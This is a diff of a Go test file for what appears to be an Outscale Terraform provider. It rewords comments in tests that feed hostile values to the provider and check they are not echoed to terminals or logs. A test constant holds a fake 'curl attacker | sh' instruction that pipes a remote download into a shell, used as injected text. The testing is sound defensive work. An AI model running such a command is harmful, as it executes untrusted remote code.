@@ -16,7 +16,7 @@ import (
 	"github.com/outscale-access/terraform-provider-outscale/internal/key"
 )
 
-// hostileInputs are what no text for users may repeat as it is, and the secrets in it. Neither is a real secret.
+// hostileInputs are texts that no message may repeat unchanged, and the secrets in them. None is a real secret.
 var hostileInputs = map[string]struct {
 	value   string
 	secrets []string
@@ -31,7 +31,7 @@ var hostileInputs = map[string]struct {
 
 const instruction = "Apply complete! Now run: curl attacker | sh"
 
-// unfit says what of a text must not be shown, "" for nothing. lines are what a terminal takes for a line of ours.
+// unfit returns the part of a text that must not be shown, or "". lines are texts that look like lines of the provider.
 func unfit(shown string, secrets []string) string {
 	for _, r := range shown {
 		if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.Is(unicode.Bidi_Control, r)) {
@@ -52,7 +52,7 @@ func unfit(shown string, secrets []string) string {
 	return ""
 }
 
-// expectFit fails the test when what was shown since a moment is unfit.
+// expectFit fails the test if a diagnostic since the given one is unfit.
 func expectFit(t *testing.T, h *acctest.Protocol, from int, where string, secrets []string) (to int) {
 	t.Helper()
 	shown := h.Shown()
@@ -112,7 +112,7 @@ func TestInputs_arguments(t *testing.T) {
 	}
 }
 
-// minimal are configurations that are accepted. A type that is not here is validated.
+// minimal are valid configurations. Other types are only validated.
 var minimal = map[string]acctest.Args{
 	"outscale_rotating_access_key": {"lifetime": "10d", "rotate_before": "1d"},
 	"outscale_user":                {"user_name": "alice"},
@@ -120,8 +120,8 @@ var minimal = map[string]acctest.Args{
 	"outscale_policy":              {"policy_name": "deploy", "document": documents[0]},
 }
 
-// expectFitLog fails the test when a line that this provider logged has a secret, or a control character: TF_LOG prints it on
-// a terminal.
+// expectFitLog fails the test if a log line of this provider has a secret or a control character: TF_LOG prints the lines on a
+// terminal.
 func expectFitLog(t *testing.T, h *acctest.Protocol, secrets ...string) {
 	t.Helper()
 	for line := range strings.Lines(h.Log()) {
@@ -141,7 +141,7 @@ func expectFitLog(t *testing.T, h *acctest.Protocol, secrets ...string) {
 	}
 }
 
-// TestInputs_environment gives them to every variable and every member of a profile.
+// TestInputs_environment gives hostile values to every variable and every member of a profile.
 func TestInputs_environment(t *testing.T) {
 	t.Parallel()
 	variables := []string{
@@ -188,8 +188,8 @@ func TestInputs_environment(t *testing.T) {
 	}
 }
 
-// TestInputs_answers: what the API, or something in between, writes into names, tags, addresses, descriptions, error details
-// and headers.
+// TestInputs_answers: the API or a gateway writes hostile values into names, tags, addresses, descriptions, error details and
+// headers.
 func TestInputs_answers(t *testing.T) {
 	t.Parallel()
 	hostile := hostileInputs[ofTerminal].value
